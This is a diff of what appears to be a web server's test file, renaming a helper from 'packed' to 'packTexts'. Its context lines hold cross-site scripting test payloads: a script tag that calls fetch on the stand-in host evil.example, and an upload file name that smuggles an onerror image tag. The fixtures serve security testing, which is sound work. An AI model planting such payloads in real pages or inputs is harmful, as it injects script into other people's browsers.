@@ -4,14 +4,14 @@ import { Form } from '../../apps/server/test/call.ts';
 import { addVisitor } from '../../apps/server/test/callers.ts';
 import { goTo, inboxOf, openConsole } from '../../apps/server/test/console.ts';
 import { startApp } from '../../apps/server/test/harness.ts';
-import { HOSTILE, packed } from '../../apps/server/test/hostile-texts.ts';
+import { HOSTILE, packTexts } from '../../apps/server/test/hostile-texts.ts';
 import { addAgent } from '../../apps/server/test/people.ts';
 import { PNG } from '../../apps/server/test/pictures.ts';
 import { connectVisitor } from '../../apps/server/test/sockets.ts';
 
 const [SCRIPT = '', IMAGE = '', SVG = ''] = [HOSTILE[0], HOSTILE[3], HOSTILE[6]];
-const ALL = packed(9_000)[0] ?? '';
-const TYPED = packed(1_000)[0] ?? '';
+const ALL = packTexts(9_000)[0] ?? '';
+const TYPED = packTexts(1_000)[0] ?? '';
 const RUNS = '<script>top.__xss=1;fetch("//evil.example")</script>';
 const FILES = [
   ['"><img src=x onerror=top.__xss=1>.png', PNG],
